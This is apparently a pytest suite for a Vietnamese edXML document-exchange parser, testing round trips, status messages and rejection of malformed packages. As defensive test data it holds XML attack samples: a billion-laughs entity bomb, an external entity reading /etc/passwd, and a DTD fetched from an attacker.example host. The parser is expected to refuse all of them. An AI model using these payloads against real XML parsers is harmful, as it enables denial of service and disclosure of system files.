"""edXML parser and builder: a realistic package, round trips, and what must be refused."""

from __future__ import annotations

import base64
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from qlvb_contracts.edxml import (
    EDXML_CONTENT_TYPE,
    Attachment,
    Business,
    DocumentCode,
    DocumentKind,
    EdXmlDocument,
    EdXMLError,
    MessageHeader,
    MessageStatus,
    Organization,
    Promulgation,
    ResponseTarget,
    StaffContact,
    build_edxml,
    build_status,
    parse_edxml,
    parse_status,
)
from qlvb_contracts.envelope import Envelope
from qlvb_contracts.errors import ContractError
from qlvb_contracts.payloads.exchange_inbound import decode_inbound
from qlvb_contracts.reference import BusinessDocType, StatusCode, Urgency

SAMPLE = Path(__file__).resolve().parents[1] / "examples" / "exchange.inbound" / "edxml.xml"
NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"


@pytest.fixture(scope="module")
def sample() -> bytes:
    return SAMPLE.read_bytes()


def _edit(sample: bytes, old: str, new: str) -> bytes:
    text = sample.decode("utf-8")
    assert old in text, old
    return text.replace(old, new, 1).encode("utf-8")


def test_parse_realistic_sample(sample: bytes) -> None:
    doc = parse_edxml(sample)
    h = doc.header

    assert h.From.OrganId == "000.00.12.H41"
    assert h.From.OrganName == "Sở Tài chính"
    assert h.From.OrganizationInCharge == "Ủy ban nhân dân thành phố"
    assert [to.OrganId for to in h.To] == ["000.00.00.H41"]
    assert h.To[0].OrganName == "Ủy ban nhân dân thành phố"
    assert h.DocumentId == "000.00.12.H41,2024/07/15,1234/STC-QLNS"
    assert h.Code == DocumentCode(CodeNumber="1234", CodeNotation="STC-QLNS")
    assert h.PromulgationInfo == Promulgation(Place="Thành phố", PromulgationDate=date(2024, 7, 15))
    assert h.DocumentType == DocumentKind(Type="18", TypeName="Công văn")
    assert h.Subject == "V/v hướng dẫn xây dựng dự toán ngân sách nhà nước năm 2025"
    assert h.Content is not None
    assert h.Content.startswith("Căn cứ Thông tư số 49/2024/TT-BTC")
    assert h.SignerInfo is not None
    assert h.SignerInfo.Competence == "KT. GIÁM ĐỐC"
    assert h.SignerInfo.FullName == "Nguyễn Thị Thu Hà"
    assert h.DueDate == date(2024, 7, 31)
    assert h.ToPlaces == ["Ủy ban nhân dân thành phố", "Lưu: VT, QLNS"]
    assert h.OtherInfo.Priority is Urgency.URGENT
    assert h.OtherInfo.PageAmount == 2
    assert h.OtherInfo.PromulgationAmount == 5
    assert h.OtherInfo.Appendixes == ["Phụ lục: Biểu mẫu dự toán thu, chi ngân sách năm 2025"]
    assert h.ResponseFor == [
        ResponseTarget(
            OrganId="000.00.00.H41",
            Code="56/UBND-KT",
            PromulgationDate=date(2024, 7, 2),
            DocumentId="000.00.00.H41,2024/07/02,56/UBND-KT",
        )
    ]
    assert h.SteeringType == 0

    assert doc.trace.TraceHeader[0].OrganId == "000.00.12.H41"
    # 14:32:05 Vietnam time
    assert doc.trace.TraceHeader[0].Timestamp == datetime(2024, 7, 15, 7, 32, 5, tzinfo=UTC)
    assert doc.business_doc_type is BusinessDocType.NEW
    assert doc.trace.Bussiness is not None
    assert doc.trace.Bussiness.StaffInfo == StaffContact(
        Department="Phòng Quản lý ngân sách",
        Staff="Trần Thu Hằng",
        Mobile="0912 345 678",
        Email="hang.tt@example.gov.vn",
    )
    assert doc.signature is not None
    assert "SignatureValue" in doc.signature


def test_attachments_are_decoded_bytes_with_declared_content_type(sample: bytes) -> None:
    pdf, appendix = parse_edxml(sample).attachments

    assert pdf.ContentId == "7c1f3a52-cv-1234"  # "cid:" prefix dropped
    assert pdf.ContentType == "application/pdf"
    assert pdf.AttachmentName == "1234-STC-QLNS.pdf"
    assert pdf.Content.startswith(b"%PDF-1.4")
    assert pdf.Content.endswith(b"%%EOF\n")
    assert appendix.ContentType == "text/plain; charset=utf-8"
    assert appendix.Content.decode("utf-8").startswith("Phụ lục: Biểu mẫu dự toán")


def test_build_then_parse_is_lossless(sample: bytes) -> None:
    doc = parse_edxml(sample)
    again = parse_edxml(build_edxml(doc))
    assert again == doc
    assert build_edxml(again) == build_edxml(doc)


def _minimal() -> EdXmlDocument:
    return EdXmlDocument(
        header=MessageHeader(
            From=Organization(OrganId="000.00.00.H41", OrganName="Ủy ban nhân dân thành phố"),
            To=[Organization(OrganId="000.00.12.H41", OrganName="Sở Tài chính")],
            DocumentId="000.00.00.H41,2024/07/26,2718/UBND-KT",
            Code=DocumentCode(CodeNumber="2718", CodeNotation="UBND-KT"),
            PromulgationInfo=Promulgation(PromulgationDate=date(2024, 7, 26)),
            DocumentType=DocumentKind(TypeName="Công văn"),
            Subject="V/v xây dựng dự toán ngân sách năm 2025 <của các phòng> & ban",
        )
    )


def test_minimal_document_round_trips() -> None:
    doc = _minimal()
    assert parse_edxml(build_edxml(doc)) == doc


def test_built_document_uses_the_edxml_namespace_and_keeps_vietnamese() -> None:
    doc = _minimal().model_copy(
        update={
            "attachments": [
                Attachment(
                    ContentId="a1",
                    ContentType="application/pdf",
                    AttachmentName="2718-UBND-KT.pdf",
                    Content=b"%PDF-1.7 \x00\xff binary",
                )
            ]
        }
    )
    data = build_edxml(doc)
    assert data.startswith(b"<?xml")
    assert NS.encode() in data
    assert "dự toán ngân sách".encode() in data
    parsed = parse_edxml(data)
    assert parsed.attachments[0].Content == b"%PDF-1.7 \x00\xff binary"
    assert parsed == doc


def test_wrong_namespace_is_refused(sample: bytes) -> None:
    other = _edit(sample, f'<edXML xmlns="{NS}"', '<edXML xmlns="http://www.e-doc.vn/Schema/"')
    with pytest.raises(EdXMLError, match=r"wrong namespace http://www\.e-doc\.vn/Schema/"):
        parse_edxml(other)


def test_no_namespace_is_refused() -> None:
    with pytest.raises(EdXMLError, match="wrong namespace"):
        parse_edxml(b"<edXML><edXMLEnvelope/></edXML>")


@pytest.mark.parametrize(
    "data",
    [b"", b"<edXML", b"not xml at all", b"<edXML xmlns='x'><a></b></edXML>"],
    ids=["empty", "truncated", "text", "mismatched tags"],
)
def test_malformed_xml_is_refused(data: bytes) -> None:
    with pytest.raises(EdXMLError, match="malformed XML"):
        parse_edxml(data)


BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<edXML xmlns="{NS}"><edXMLEnvelope><edXMLHeader><MessageHeader>
<Subject>&lol9;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML xmlns="{NS}"><edXMLEnvelope><edXMLHeader><MessageHeader>
<Subject>&xxe;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">
<edXML xmlns="{NS}"/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
    ids=["billion laughs", "external entity", "external dtd"],
)
def test_entity_attacks_are_refused(data: str) -> None:
    with pytest.raises(EdXMLError, match="refused: DTDs, entity declarations"):
        parse_edxml(data.encode())


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (
            "<edXML:CodeNumber>1234</edXML:CodeNumber>",
            "",
            "missing required field MessageHeader/Code/CodeNumber",
        ),
        (
            "<edXML:CodeNumber>1234</edXML:CodeNumber>",
            "<edXML:CodeNumber>  </edXML:CodeNumber>",
            "missing required field MessageHeader/Code/CodeNumber",
        ),
        (
            "<edXML:Subject>V/v hướng dẫn xây dựng dự toán ngân sách nhà nước năm 2025"
            "</edXML:Subject>",
            "",
            "missing required field MessageHeader/Subject",
        ),
        (
            "<edXML:TypeName>Công văn</edXML:TypeName>",
            "",
            "missing required field MessageHeader/DocumentType/TypeName",
        ),
        (
            "<edXML:PromulgationDate>2024/07/15</edXML:PromulgationDate>",
            "",
            "missing required field MessageHeader/PromulgationInfo/PromulgationDate",
        ),
        (
            "<edXML:OrganId>000.00.00.H41</edXML:OrganId>\n          <edXML:OrganName>",
            "<edXML:OrganName>",
            "missing required field MessageHeader/To[1]/OrganId",
        ),
    ],
    ids=["CodeNumber", "blank CodeNumber", "Subject", "TypeName", "PromulgationDate", "To OrganId"],
)
def test_missing_required_fields(sample: bytes, old: str, new: str, reason: str) -> None:
    with pytest.raises(EdXMLError, match=reason.replace("[", r"\[").replace("]", r"\]")):
        parse_edxml(_edit(sample, old, new))


def test_missing_from_and_to(sample: bytes) -> None:
    text = sample.decode()
    start, end = text.index("<edXML:From>"), text.index("<edXML:DocumentId>")
    stripped = (text[:start] + text[end:]).encode()
    with pytest.raises(EdXMLError) as info:
        parse_edxml(stripped)
    assert "missing required field MessageHeader/From" in info.value.reason
    assert "missing required field MessageHeader/To" in info.value.reason


def test_missing_message_header() -> None:
    data = f'<edXML xmlns="{NS}"><edXMLEnvelope><edXMLHeader/></edXMLEnvelope></edXML>'
    with pytest.raises(EdXMLError, match="missing required field MessageHeader"):
        parse_edxml(data.encode())


@pytest.mark.parametrize(
    ("old", "new", "where"),
    [
        (
            "2024/07/15</edXML:PromulgationDate>",
            "15/07/2024</edXML:PromulgationDate>",
            "PromulgationInfo/PromulgationDate",
        ),
        (
            "<edXML:Priority>1</edXML:Priority>",
            "<edXML:Priority>7</edXML:Priority>",
            "OtherInfo/Priority",
        ),
        (
            "<edXML:OrganId>000.00.12.H41</edXML:OrganId>",
            "<edXML:OrganId>vxp.saas.03</edXML:OrganId>",
            "From/OrganId",
        ),
        (
            "<edXML:PageAmount>2</edXML:PageAmount>",
            "<edXML:PageAmount>hai</edXML:PageAmount>",
            "OtherInfo/PageAmount",
        ),
    ],
    ids=["date", "priority", "organ id", "page amount"],
)
def test_invalid_values_name_the_field(sample: bytes, old: str, new: str, where: str) -> None:
    with pytest.raises(EdXMLError, match=f"invalid value at MessageHeader/{where}"):
        parse_edxml(_edit(sample, old, new))


def test_oversize_is_refused(sample: bytes) -> None:
    with pytest.raises(EdXMLError, match="too large"):
        parse_edxml(sample, max_bytes=1024)
    assert parse_edxml(sample, max_bytes=len(sample)).header.Code.CodeNumber == "1234"


def test_attachment_listed_but_not_encoded_is_refused(sample: bytes) -> None:
    text = sample.decode()
    start = text.index("    <Attachment>\n      <ContentType>text/plain")
    end = text.index("</AttachmentEncoded>")
    with pytest.raises(
        EdXMLError, match="7c1f3a52-pl-01 is listed in the manifest but not encoded"
    ):
        parse_edxml((text[:start] + text[end:]).encode())


def test_bad_base64_is_refused(sample: bytes) -> None:
    bad = _edit(sample, "UGjhu6UgbOG7pWM6", "UGjhu6Ug!!!bOG7pWM6")
    with pytest.raises(EdXMLError, match="invalid base64"):
        parse_edxml(bad)


def test_document_id_is_derived_when_absent(sample: bytes) -> None:
    without = _edit(
        sample, "<edXML:DocumentId>000.00.12.H41,2024/07/15,1234/STC-QLNS</edXML:DocumentId>", ""
    )
    assert parse_edxml(without).header.DocumentId == "000.00.12.H41,2024/07/15,1234/STC-QLNS"


def test_unknown_root_is_refused() -> None:
    with pytest.raises(EdXMLError, match="unexpected root element <Envelope>"):
        parse_edxml(f'<Envelope xmlns="{NS}"/>'.encode())


def _status(**changes: object) -> MessageStatus:
    values: dict[str, object] = {
        "ResponseFor": ResponseTarget(
            OrganId="000.00.12.H41",
            Code="1234/STC-QLNS",
            PromulgationDate=date(2024, 7, 15),
            DocumentId="000.00.12.H41,2024/07/15,1234/STC-QLNS",
        ),
        "From": Organization(OrganId="000.00.00.H41", OrganName="Ủy ban nhân dân thành phố"),
        "StatusCode": StatusCode.REGISTERED,
        "Description": "Đã vào sổ văn bản đến, số đến 1587",
        "Timestamp": datetime(2024, 7, 15, 8, 5, 12, tzinfo=UTC),
        "StaffInfo": StaffContact(Department="Phòng Hành chính - Tổ chức", Staff="Nguyễn Thị Lan"),
    }
    values.update(changes)
    return MessageStatus.model_validate(values)


def test_status_round_trip() -> None:
    status = _status()
    data = build_status(status)
    assert b"<edXML:StatusCode>03</edXML:StatusCode>" in data
    assert b"2024/07/15 15:05:12" in data  # Vietnam time on the wire
    assert parse_status(data) == status


def test_status_parses_a_hand_written_package() -> None:
    data = f"""<?xml version="1.0" encoding="UTF-8"?>
<edXML:Status xmlns:edXML="{NS}">
  <edXML:Header>
    <edXML:MessageStatus>
      <edXML:ResponseFor>
        <edXML:OrganId>000.00.00.H41</edXML:OrganId>
        <edXML:Code>2718/UBND-KT</edXML:Code>
        <edXML:PromulgationDate>2024/07/26</edXML:PromulgationDate>
        <edXML:DocumentId>000.00.00.H41,2024/07/26,2718/UBND-KT</edXML:DocumentId>
      </edXML:ResponseFor>
      <edXML:From>
        <edXML:OrganId>000.00.12.H41</edXML:OrganId>
        <edXML:OrganName>Sở Tài chính</edXML:OrganName>
      </edXML:From>
      <edXML:StatusCode>02</edXML:StatusCode>
      <edXML:Description>Văn bản gửi sai nơi nhận</edXML:Description>
      <edXML:Timestamp>2024/07/26 16:00:00</edXML:Timestamp>
    </edXML:MessageStatus>
  </edXML:Header>
</edXML:Status>""".encode()
    status = parse_status(data)
    assert status.StatusCode is StatusCode.REJECTED
    assert status.Description == "Văn bản gửi sai nơi nhận"
    assert status.Timestamp == datetime(2024, 7, 26, 9, 0, tzinfo=UTC)
    assert status.ResponseFor.Code == "2718/UBND-KT"


def test_rejection_status_requires_a_reason() -> None:
    with pytest.raises(ValueError, match="requires a Description"):
        _status(StatusCode=StatusCode.REJECTED, Description=None)
    data = build_status(_status(StatusCode=StatusCode.REJECTED, Description="Sai nơi nhận"))
    broken = data.replace("<edXML:Description>Sai nơi nhận</edXML:Description>".encode(), b"")
    with pytest.raises(EdXMLError, match="requires a Description"):
        parse_status(broken)


def test_status_missing_fields_and_wrong_root() -> None:
    data = build_status(_status()).replace(b"<edXML:StatusCode>03</edXML:StatusCode>", b"")
    with pytest.raises(EdXMLError, match="missing required field MessageStatus/StatusCode"):
        parse_status(data)
    with pytest.raises(EdXMLError, match="unexpected root element"):
        parse_status(build_edxml(_minimal()))


def test_business_kind_round_trips() -> None:
    doc = _minimal()
    recall = doc.model_copy(
        update={
            "trace": doc.trace.model_copy(
                update={
                    "Bussiness": Business(
                        BussinessDocType=BusinessDocType.REVOCATION, BussinessDocReason="Sai sót"
                    )
                }
            )
        }
    )
    parsed = parse_edxml(build_edxml(recall))
    assert parsed.business_doc_type is BusinessDocType.REVOCATION
    assert parsed == recall


def test_decode_inbound_dispatches_on_content_type(sample: bytes) -> None:
    assert isinstance(decode_inbound(sample, EDXML_CONTENT_TYPE), EdXmlDocument)
    assert isinstance(decode_inbound(sample, "application/xml; charset=utf-8"), EdXmlDocument)
    json_message = (
        Path(__file__).resolve().parents[1]
        / "examples"
        / "exchange.inbound"
        / "exchange_document.v1.json"
    ).read_bytes()
    assert isinstance(decode_inbound(json_message, "application/json"), Envelope)
    assert isinstance(decode_inbound(json_message, None), Envelope)
    with pytest.raises(ContractError, match="unsupported content-type"):
        decode_inbound(json_message, "application/pdf")
    with pytest.raises(EdXMLError, match="too large"):
        decode_inbound(sample, EDXML_CONTENT_TYPE, max_bytes=100)


def test_base64_field_accepts_wrapped_text() -> None:
    wrapped = base64.encodebytes(b"x" * 200).decode()  # newlines every 76 characters
    attachment = Attachment.model_validate({"ContentId": "a", "Content": wrapped})
    assert attachment.Content == b"x" * 200
    assert attachment.model_dump(mode="json")["Content"] == base64.b64encode(b"x" * 200).decode()


def test_absurd_nesting_is_refused(sample: bytes) -> None:
    deep = "<ds:X>" * 500 + "</ds:X>" * 500
    nested = _edit(sample, "<SignatureValue>", f'<SignatureValue xmlns:ds="urn:x">{deep}')
    with pytest.raises(EdXMLError, match="nested deeper than 64"):
        parse_edxml(nested)
